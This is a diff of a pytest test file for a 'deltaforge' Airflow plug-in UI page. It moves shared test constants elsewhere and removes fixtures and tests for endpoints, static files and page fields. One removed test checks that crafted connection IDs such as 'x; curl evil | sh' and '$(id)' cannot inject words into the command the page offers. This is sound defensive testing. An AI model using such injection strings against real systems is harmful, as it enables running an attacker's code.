@@ -1,11 +1,8 @@
 """The page of the UI: its endpoints in Airflow's own application, a real database and store."""
 
-import asyncio
 import json
-import logging
 import os
 import re
-import shutil
 import socket
 import subprocess
 import sys
@@ -15,96 +12,15 @@ from pathlib import Path
 import pytest
 
 from airflow_provider_deltaforge.control import pipelines
-from airflow_provider_deltaforge.control.starting import start
 from airflow_provider_deltaforge.control.status import status
 from airflow_provider_deltaforge.hooks.deltaforge import DeltaForgeHook
 from airflow_provider_deltaforge.hooks.jobs import owner_token
 from airflow_provider_deltaforge.plugins_airflow import page
-from airflow_provider_deltaforge.plugins_airflow.advice import advice
 from airflow_provider_deltaforge.plugins_airflow.answers import Supervisor
-from airflow_provider_deltaforge.storage.control import Control
 from airflow_provider_deltaforge.storage.location import StoreLocation
-from airflow_provider_deltaforge.storage.requests import Request, Results, result_of
-from airflow_provider_deltaforge.storage.snapshots import Run, Snapshots
-from tests.control.bench import DOCUMENT, job_of
+from tests.airflow.page_bench import JSON, READ, SECRET
+from tests.control.bench import DOCUMENT
 from tests.waiting import wait_until
-
-STATIC = Path(page.__file__).with_name("static")
-OWNER = "airflow:shop/stream/manual__2026-11-21T20:00:00+00:00/-1#2@0123abcd"
-SECRET = "pl4nted-s3cret"
-JSON = {"Content-Type": "application/json"}
-READ = ("/pipelines", "/pipelines/orders", "/pipelines/orders/log", "/pipelines/orders/document")
-
-
-@pytest.fixture(scope="module")
-def client():
-    """Airflow's whole API application, plug-ins mounted by Airflow itself."""
-    settings = {
-        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_USERS": "ann:admin,una:user,vera:viewer",
-        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_ALL_ADMINS": "False",
-        "AIRFLOW__API_AUTH__JWT_SECRET": "0123456789abcdef" * 8,
-    }
-    with pytest.MonkeyPatch.context() as patch:
-        for name, value in settings.items():
-            patch.setenv(name, value)
-        from airflow.api_fastapi.app import create_app, purge_cached_app
-        from airflow.utils.db import initdb
-        from fastapi.testclient import TestClient
-
-        purge_cached_app()
-        levels = logging.root.manager.disable
-        initdb()
-        logging.disable(levels)
-        with TestClient(create_app("core"), base_url="http://airflow") as opened:
-            yield opened
-        purge_cached_app()
-
-
-@pytest.fixture
-def ask(client):
-    """Ask as a user of a role; ``role=None`` is nobody."""
-    from airflow.api_fastapi.app import get_auth_manager
-    from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser
-
-    def asked(path, role="admin", method="GET", **options):
-        headers = options.pop("headers", {})
-        if role is not None:
-            user = SimpleAuthManagerUser(username=role, role=role)
-            headers["Authorization"] = f"Bearer {get_auth_manager().generate_jwt(user)}"
-        return client.request(method, f"/deltaforge{path}", headers=headers, **options)
-
-    return asked
-
-
-@pytest.fixture
-def orders(store, backend, dsn, tmp_path, monkeypatch):
-    """A pipeline whose driver runs, with a snapshot begun, a request waiting and one served."""
-    value = {"conn_type": "deltaforge", "extra": {"path": str(tmp_path / "state.db")}}
-    monkeypatch.setenv("AIRFLOW_CONN_DELTAFORGE_DEFAULT", json.dumps(value))
-    monkeypatch.setattr(DeltaForgeHook, "backend", lambda _: backend)
-    pipelines.apply(store, DOCUMENT)
-    start(store, job_of(dsn), backend, OWNER)
-    wait_until(lambda: status(store, "orders", backend).status == "running")
-    snapshots = Snapshots(store, "orders")
-    tables = {"shop.orders": {"chunks": 4, "rows_estimate": 100}}
-    run = Run(
-        id="r1",
-        generation=1,
-        started_at_ms=1_760_000_000_000,
-        start_position={"tx": 1},
-        chunk_count=4,
-        tables=tables,
-    )
-    store.transact(snapshots.begin(run, []))
-    store.transact([snapshots.chunk_done("r1", "c1", "shop.orders", 25, {"tx": 1})])
-    asked = Request(id="again", tables=["shop.orders"], requested_at_ms=1, by=OWNER)
-    served = Request(id="first", where="id > 5", requested_at_ms=1, by=OWNER)
-    counted = {"shop.orders": {"chunks": 1, "rows": 7}}
-    store.transact(
-        Results(store, "orders").put(result_of(served, "failed", tables=counted, reason="away"))
-    )
-    Control(store, "orders").update(lambda old: old.model_copy(update={"requests": [asked]}))
-    return Control(store, "orders")
 
 
 def test_the_entry_point_is_the_only_source_of_the_plugin_and_it_loads():
@@ -404,137 +320,6 @@ def test_the_owner_token_of_the_operators_is_understood():
     )
     assert Supervisor.of("cli:host:77") is None
     assert Supervisor.of(None) is None
-
-
-def test_every_status_that_needs_somebody_has_advice():
-    from airflow_provider_deltaforge import errors
-
-    classes = {
-        one.error_class
-        for one in vars(errors).values()
-        if isinstance(one, type) and issubclass(one, errors.DeltaForgeError)
-    }
-
-    texts = {advice("failed", one, watched=True) for one in classes}
-    assert len(texts) >= 7
-    for word in ("lost", "blocked", "paused", "stopped", "pending"):
-        assert advice(word, None, watched=False)
-    assert advice("running", None, watched=True) is None
-
-
-def test_airflow_serves_every_file_of_the_page_and_a_change_shows_at_once(ask):
-    for path in STATIC.iterdir():
-        answer = ask(f"/static/{path.name}", role=None)
-        assert answer.status_code == 200
-        assert answer.text == path.read_text()
-        assert answer.headers["Cache-Control"] == "no-cache"
-    kind = ask("/static/page.js", role=None).headers["Content-Type"]
-    assert kind.startswith(("text/javascript", "application/javascript"))
-
-
-def test_the_ui_is_told_of_the_page_and_of_files_that_exist(client, ask):
-    from airflow.api_fastapi.app import get_auth_manager
-    from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser
-
-    token = get_auth_manager().generate_jwt(SimpleAuthManagerUser(username="a", role="admin"))
-    answer = client.get("/api/v2/plugins", headers={"Authorization": f"Bearer {token}"}).json()
-    [ours] = [one for one in answer["plugins"] if one["name"] == "deltaforge"]
-
-    assert {app["destination"]: app["url_route"] for app in ours["react_apps"]} == {
-        "nav": "deltaforge",
-        "dag": "deltaforge-dag",
-    }
-    for app in ours["react_apps"]:
-        assert client.get(f"/{app['bundle_url']}").status_code == 200
-        assert client.get(f"/{app['icon']}").status_code == 200
-
-
-def test_the_tab_can_be_hidden(monkeypatch):
-    monkeypatch.setenv("AIRFLOW__DELTAFORGE__DAG_TAB", "False")
-
-    assert [app["destination"] for app in page._react_apps()] == ["nav"]
-
-
-def test_the_application_is_built_once_and_only_when_it_is_asked():
-    built = []
-
-    async def application(scope, receive, send):
-        built.append(scope)
-
-    lazy = page.LazyApplication(lambda: built.append("built") or application)
-    assert built == []
-    asyncio.run(lazy(1, None, None))
-    asyncio.run(lazy(2, None, None))
-
-    assert built == ["built", 1, 2]
-
-
-def test_every_field_the_page_reads_is_in_an_answer(ask, orders):
-    """Its own names are camelCase, so every snake_case word outside a string is ours."""
-    answers = [ask(path).json() for path in ("/connections", *READ, "/pipelines/nothing")]
-    known = {*_keys(answers), "conn_id", "dag_id"}
-    code = "\n".join(path.read_text() for path in STATIC.glob("*.js"))
-    code = re.sub(r'//.*|"[^"\n]*"', "", code)
-    owners = "pipeline|one|sink|driver|snapshot|request|result|told|supervisor"
-    read = {
-        *re.findall(r"\b[a-z]+(?:_[a-z]+)+\b", code),
-        *re.findall(rf"\b(?:{owners})\??\.(\w+)", code),
-        *re.findall(r"\bdata\.(\w+)", code),
-    }
-    assert {"heartbeat_age_s", "rows_estimate", "submitted_at_ms", "name", "missing"} <= read
-    # Codes of refusals are keys of the page's own texts; `at` and `scroll…` are the browser's.
-    texts = set(re.findall(r"\b(\w+): \"", (STATIC / "first_steps.js").read_text()))
-
-    assert (
-        read - known - texts - {"under_way", "scrollHeight", "scrollTop", "clientHeight", "at"}
-        == set()
-    )
-
-
-def _keys(value):
-    if isinstance(value, dict):
-        for key, inner in value.items():
-            yield key
-            yield from _keys(inner)
-    elif isinstance(value, list):
-        for inner in value:
-            yield from _keys(inner)
-
-
-def test_every_code_the_page_explains_can_be_answered():
-    source = (STATIC.parent / "application.py").read_text()
-    refused = set(re.findall(r'RefusedError\(\s*\d+, "(\w+)"', source))
-    first_steps = (STATIC / "first_steps.js").read_text()
-    explained = set(re.findall(r"\b([a-z]+_[a-z]+): ", first_steps)) - {"conn_id"}
-
-    assert explained - refused == {"no_answer", "signed_out"}, "those two come from the page itself"
-
-
-RENDER = """
-globalThis.React = { createElement: (type, props, ...children) => ({ type, props, children }) };
-for (const name of ["ChakraUI", "ReactRouterDOM"])
-  globalThis[name] = new Proxy({}, { get: (_, part) => part });
-const { Trouble } = await import(process.argv[1]);
-const flat = (node) => node?.type instanceof Function
-  ? flat(node.type({ ...node.props, children: node.children }))
-  : { ...node, children: (node?.children?.flat() ?? []).map((c) => (c?.type ? flat(c) : c)) };
-const error = { code: "no_connection", detail: "there is none" };
-for (const connId of JSON.parse(process.argv[2]))
-  console.log(JSON.stringify(flat({ type: Trouble, props: { connId, error } })));
-"""
-
-
-@pytest.mark.skipif(shutil.which("node") is None, reason="needs node")
-def test_a_link_cannot_put_words_into_the_command_the_page_offers():
-    crafted = ["x; curl evil | sh", "$(id)", "`id`", "a\nid", "a\n", "--help", ""]
-    words = [RENDER, str(STATIC / "first_steps.js"), json.dumps(["shop.db-1", *crafted])]
-    done = subprocess.run(
-        ["node", "--input-type=module", "-e", *words], capture_output=True, text=True, check=False
-    )
-
-    assert done.returncode == 0, done.stderr
-    offered = ["airflow connections add" in page for page in done.stdout.splitlines()]
-    assert offered == [True, *(False for _ in crafted)]
 
 
 def test_the_connections_to_choose_from_are_ours_alone(ask, orders, monkeypatch):
